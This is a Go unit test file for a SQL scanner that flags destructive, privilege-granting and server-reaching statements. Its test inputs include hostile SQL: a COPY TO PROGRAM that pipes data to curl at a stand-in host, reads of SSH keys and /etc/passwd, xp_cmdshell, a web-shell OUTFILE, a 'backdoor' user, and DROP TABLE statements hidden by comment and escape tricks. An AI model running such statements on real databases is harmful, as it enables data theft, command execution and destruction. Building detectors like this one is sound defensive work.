package sqlscan

import (
	"slices"
	"testing"
)

const (
	drop      = IDDrop
	unbounded = IDUnboundedWrite
	config    = IDRedisConfig
	reach     = IDServerReach
)

// ids returns the ids of findings, in order.
func ids(fs []Finding) []string {
	out := []string{}
	for _, f := range fs {
		out = append(out, f.ID)
	}
	return out
}

var sqlTests = []struct {
	script string
	want   []string
}{
	// Drops.
	{"DROP TABLE users", []string{drop}},
	{"drop table users;", []string{drop}},
	{"DROP TABLE IF EXISTS tmp_x", []string{drop}},
	{"DROP DATABASE prod;", []string{drop}},
	{"DROP SCHEMA public CASCADE", []string{drop}},
	{"DROP VIEW v; DROP MATERIALIZED VIEW mv", []string{drop, drop}},
	{"DROP INDEX idx_users_email", []string{drop}},
	{"DROP USER alice", []string{drop}},
	{"DROP ROLE admin", []string{drop}},
	{"DROP TEMPORARY TABLE t", []string{drop}},
	{"DROP KEYSPACE analytics", []string{drop}},
	{"DROP OWNED BY bob", []string{drop}},
	{"TRUNCATE orders", []string{drop}},
	{"TRUNCATE TABLE orders", []string{drop}},
	{"ALTER DATABASE Sales SET SINGLE_USER WITH ROLLBACK IMMEDIATE; RESTORE DATABASE Sales FROM DISK='D:\\bak\\sales.bak' WITH REPLACE", []string{drop}},
	{"restore database app from disk = '/var/opt/mssql/app.bak'", []string{drop}},
	{"UPDATE users SET is_admin = true WHERE email = 'temp.helper@protonmail.com'", []string{IDGrant}},
	{"update accounts set name = 'x', role = 'admin' where id = 7", []string{IDGrant}},
	{"UPDATE users SET last_login = now(), is_staff = 1 WHERE id = 3", []string{IDGrant}},
	{"UPDATE users SET is_admin = false WHERE id = 3", nil},
	{"UPDATE users SET role = 'viewer' WHERE id = 3", nil},
	{"SELECT * FROM users WHERE is_admin = true", nil},
	{"RESTORE VERIFYONLY FROM DISK = '/backups/app.bak'", nil},
	{"RESTORE HEADERONLY FROM DISK = '/backups/app.bak'", nil},
	{"SELECT 'RESTORE DATABASE x'", nil},
	{"truncate only orders restart identity", []string{drop}},
	{`TRUNCATE "Orders"`, []string{drop}},
	{"TRUNCATE `orders`", []string{drop}},
	{"ALTER TABLE users DROP COLUMN email", []string{drop}},
	{"ALTER TABLE users DROP CONSTRAINT users_pkey", []string{drop}},
	{"ALTER TABLE users DROP email", []string{drop}},
	{"ALTER TABLE users DROP PRIMARY KEY", []string{drop}},
	{"ALTER TABLE logs DROP PARTITION p2019", []string{drop}},
	{"ALTER TABLE a ADD COLUMN b int, DROP COLUMN c, DROP COLUMN d", []string{drop}},

	// Unbounded writes.
	{"DELETE FROM users", []string{unbounded}},
	{"delete from users;", []string{unbounded}},
	{"DELETE FROM users RETURNING *", []string{unbounded}},
	{"DELETE LOW_PRIORITY QUICK FROM users LIMIT 10", []string{unbounded}},
	{"UPDATE users SET admin = true", []string{unbounded, IDGrant}},
	{"UPDATE ONLY users AS u SET admin = true", []string{unbounded, IDGrant}},
	{"UPDATE users SET n = (SELECT max(n) FROM t WHERE t.id = 1)", []string{unbounded}}, // the WHERE is the subquery's
	{"WITH old AS (SELECT id FROM t WHERE x) DELETE FROM t", []string{unbounded}},
	{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d WHERE id > 1", []string{unbounded}},
	{"DELETE FROM a; DELETE FROM b WHERE id = 1; UPDATE c SET x = 1", []string{unbounded, unbounded}},
	// Statements that reach the server's programs and files, or make a superuser.
	{"COPY users TO PROGRAM 'curl -d @- https://x.example'", []string{reach}},
	{"copy t from program 'id'", []string{reach}},
	{"COPY users TO '/tmp/users.csv'", nil},
	{"SELECT pg_read_file('/root/.ssh/id_rsa')", []string{reach}},
	{"SELECT lo_export(123, '/root/.ssh/authorized_keys')", []string{reach}},
	{"SELECT * FROM users INTO OUTFILE '/var/www/x.php'", []string{reach}},
	{"SELECT LOAD_FILE('/etc/passwd')", []string{reach}},
	{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", []string{reach}},
	{"EXEC xp_cmdshell 'whoami'", []string{reach}},
	{"CREATE EXTENSION plpython3u", []string{reach}},
	{"CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u", []string{reach}},
	{"ALTER ROLE app SUPERUSER", []string{reach}},
	{"SELECT load_extension('/tmp/x.so')", []string{reach}},
	// A WHERE that holds for every row limits nothing.
	{"DELETE FROM users WHERE 1=1", []string{unbounded}},
	{"delete from users where true", []string{unbounded}},
	{"DELETE FROM users WHERE 1", []string{unbounded}},
	{"DELETE FROM users WHERE NOT FALSE", []string{unbounded}},
	{"DELETE FROM users WHERE 'a' = 'a';", []string{unbounded}},
	{"DELETE FROM users WHERE id = id", []string{unbounded}},
	{"UPDATE users SET role = 'admin' WHERE (1 = 1)", []string{unbounded, IDGrant}},
	{"DELETE FROM users WHERE id = 5 OR 1=1", []string{unbounded}},
	{"DELETE FROM users WHERE id = 5 || 2 <> 3", []string{unbounded}},
	{"DELETE FROM users WHERE 1=1 AND 2=2 RETURNING *", []string{unbounded}},
	{"DELETE FROM users WHERE name LIKE '%'", []string{unbounded}},
	{"UPDATE t SET x = 1 WHERE 1 >= 1 ORDER BY id LIMIT 5", []string{unbounded}},

	// Statements inside other statements and strings that are run.
	{"BEGIN; DROP TABLE x; COMMIT;", []string{drop}},
	{"DO $$ BEGIN DROP TABLE x; END $$", []string{drop}},
	{"DO $body$ BEGIN DELETE FROM t; END $body$ LANGUAGE plpgsql", []string{unbounded}},
	{"DO 'BEGIN TRUNCATE t; END'", []string{drop}},
	{"EXECUTE 'DROP TABLE ' || quote_ident(name)", []string{drop}},
	{"PREPARE s FROM 'DROP TABLE x'; EXECUTE s;", []string{drop}},
	{"EXPLAIN ANALYZE DELETE FROM t", []string{unbounded}},
	{"CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", []string{unbounded}},
	{"SELECT 1; drop table x", []string{drop}},
	{"/*!50000 DROP TABLE x */", []string{drop}},        // MySQL runs it
	{"SELECT 'a\\'; DROP TABLE x; --'", []string{drop}}, // PostgreSQL runs it
	{"SELECT 1 # x\n; DROP TABLE y", []string{drop}},    // on its own line anyway
	{"SELECT 1 # 2; DROP TABLE y", []string{drop}},      // # is an operator in PostgreSQL
	{"/* /* */ DROP TABLE x */", []string{drop}},        // MySQL's comments do not nest
	{"SELECT 1--1; DROP TABLE x", []string{drop}},       // MySQL's -- needs a space
	{"DELIMITER //\nCREATE PROCEDURE p() BEGIN SELECT 1; END//\nDELIMITER ;\nDROP TABLE x;", []string{drop}},
	{"DELIMITER $$\nDROP TABLE x$$\nDELIMITER ;", []string{drop}},
	{"SELECT 1 \\g DROP TABLE x", []string{drop}}, // \g ends a statement in mysql
	{"\\echo hi \\\\ DROP TABLE x", []string{drop}},
	{"SELECT E'\\\\'; DROP TABLE x; --'", []string{drop}}, // E'\\' is one backslash

	// Benign.
	{"SELECT * FROM users", nil},
	{"select count(*) from orders where created_at > now() - interval '1 day'", nil},
	{"INSERT INTO users (name) VALUES ('drop table users')", nil},
	{"CREATE TABLE drop_log (id serial, what text)", nil},
	{"CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)", nil},
	{"DELETE FROM users WHERE id = 1", nil},
	{"COPY users TO STDOUT WITH CSV HEADER", nil},
	{"COPY users FROM STDIN", nil},
	{"SELECT 'pg_read_file' AS name", nil},
	{"CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", nil},
	{"CREATE ROLE reader NOSUPERUSER LOGIN", nil},
	{"DELETE FROM users WHERE 1=1 AND id = 7", nil},
	{"DELETE FROM users WHERE id = 1 OR id = 2", nil},
	{"DELETE FROM users WHERE NULL = NULL", nil},
	{"DELETE FROM users WHERE 1 = 2", nil},
	{"DELETE FROM users WHERE 0", nil},
	{"DELETE FROM users WHERE name LIKE 'a%'", nil},
	{"DELETE FROM users WHERE id IN (SELECT id FROM t WHERE 1=1)", nil},
	{"DELETE FROM users WHERE (id = 1) OR (id = 2)", nil},
	{"DELETE FROM users WHERE created < now() - interval '1 day'", nil},
	{"delete from users where id in (select id from banned)", nil},
	{"UPDATE users SET name = 'x' WHERE id = 1", nil},
	{"UPDATE users SET name = 'x' FROM other WHERE users.id = other.id", nil},
	{"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1", nil},
	{"INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE x = VALUES(x)", nil},
	{"SELECT * FROM t FOR UPDATE OF t SKIP LOCKED", nil},
	{"SELECT 'DROP TABLE x'", nil},
	{`SELECT "DROP TABLE x" FROM t`, nil},
	{"SELECT $$DROP TABLE x$$, $f$ DELETE FROM t $f$", nil},
	{"CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE x $$ LANGUAGE sql", nil},
	{"-- DROP TABLE x\nSELECT 1", nil},
	{"/* DROP TABLE x */ SELECT 1", nil},
	{"# DROP TABLE x\nSELECT 1", nil},
	{"SELECT 1 -- ; DROP TABLE x", nil},
	{"--DROP TABLE x;\nSELECT 1", nil}, // MySQL reads - -DROP, which fails
	{".shell echo DROP TABLE x", nil},  // an sqlite3 dot command
	{"SELECT E'\\'; DROP TABLE x; --'", nil},
	{"\\dt", nil},
	{"\\d+ users", nil},
	{"\\set q 'DROP TABLE x'", nil},
	{"SHOW TABLES", nil},
	{".tables", nil},
	{"GRANT SELECT, UPDATE, DELETE, TRUNCATE ON users TO app", nil},
	// Grants that hand out access beyond some privileges to a named user.
	{"GRANT ALL ON *.* TO 'evil'@'%' IDENTIFIED BY 'x'", []string{IDGrant}},
	{"GRANT SELECT ON db.* TO 'app'@'%'", []string{IDGrant}},
	{"GRANT SELECT ON users TO PUBLIC", []string{IDGrant}},
	{"GRANT SELECT ON users TO app WITH GRANT OPTION", []string{IDGrant}},
	{"ALTER USER postgres WITH PASSWORD 'x'", []string{IDGrant}},
	{"CREATE USER backdoor IDENTIFIED BY 'x'", []string{IDGrant}},
	{"ALTER TABLE users DISABLE ROW LEVEL SECURITY", []string{IDGrant}},
	{"SELECT * FROM grants WHERE kind = 'public'", nil},
	{"ALTER TABLE users ENABLE ROW LEVEL SECURITY", nil},
	{"GRANT ALTER, DROP ON db.* TO app", nil},
	{"REVOKE DELETE ON users FROM app", nil},
	{"ALTER TABLE t ALTER COLUMN c DROP DEFAULT", nil},
	{"ALTER TABLE t ALTER COLUMN c DROP NOT NULL", nil},
	{"ALTER TABLE t ADD COLUMN c int", nil},
	{"CREATE TRIGGER tr AFTER DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()", nil},
	{"SELECT TRUNCATE(1.5, 0)", nil},
	{"DO $$ BEGIN RAISE NOTICE 'drop table x'; END $$", nil},
	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", nil},
	{"", nil},
	{";;;", nil},
	{"SELECT 'unterminated DROP TABLE x", nil},
	{"/* unterminated DROP TABLE x", nil},
}

func TestSQL(t *testing.T) {
	for _, tt := range sqlTests {
		got := ids(SQL(tt.script))
		want := tt.want
		if want == nil {
			want = []string{}
		}
		if !slices.Equal(got, want) {
			t.Errorf("SQL(%q) = %q; want %q", tt.script, SQL(tt.script), want)
		}
	}
}

func TestSQLEvidence(t *testing.T) {
	for _, tt := range []struct {
		script string
		want   []Finding
	}{
		{"SELECT 1;\n  DROP   TABLE\n\tusers ;", []Finding{{drop, "DROP TABLE users"}}},
		{"DELETE FROM users", []Finding{{unbounded, "DELETE FROM users"}}},
		{"DROP TABLE a; DROP TABLE a;", []Finding{{drop, "DROP TABLE a"}}}, // each distinct finding once
		{"DROP TABLE a, b; DELETE FROM c", []Finding{{drop, "DROP TABLE a, b"}, {unbounded, "DELETE FROM c"}}},
		{"DO $$ BEGIN DROP TABLE x; END $$", []Finding{{drop, "BEGIN DROP TABLE x"}}},
		{"DELIMITER $$\nDROP TABLE x$$\nDELIMITER ;\nUPDATE t SET a = 1", []Finding{{drop, "DROP TABLE x"}, {unbounded, "UPDATE t SET a = 1"}}},
		{"DO $a$ DO $b$ BEGIN EXECUTE 'DELETE FROM t'; END $b$ $a$", []Finding{{unbounded, "DELETE FROM t"}}},
		{"DROP TABLE " + longName, []Finding{{drop, "DROP TABLE " + longName[:66] + "…"}}},
		{"DROP TABLE é" + longName, []Finding{{drop, "DROP TABLE é" + longName[:64] + "…"}}},
	} {
		if got := SQL(tt.script); !slices.Equal(got, tt.want) {
			t.Errorf("SQL(%q) = %q; want %q", tt.script, got, tt.want)
		}
	}
}

const longName = "a_table_whose_name_is_far_too_long_to_show_in_full_in_the_evidence_of_a_finding"

func TestEvidenceLength(t *testing.T) {
	for _, s := range []string{"", "x", longName, longName + longName, "ééééééééééééééééééééééééééééééééééééééééééééééééééé"} {
		if e := evidence(s); len(e) > maxEvidence {
			t.Errorf("evidence(%q) = %q: %d bytes", s, e, len(e))
		}
	}
}
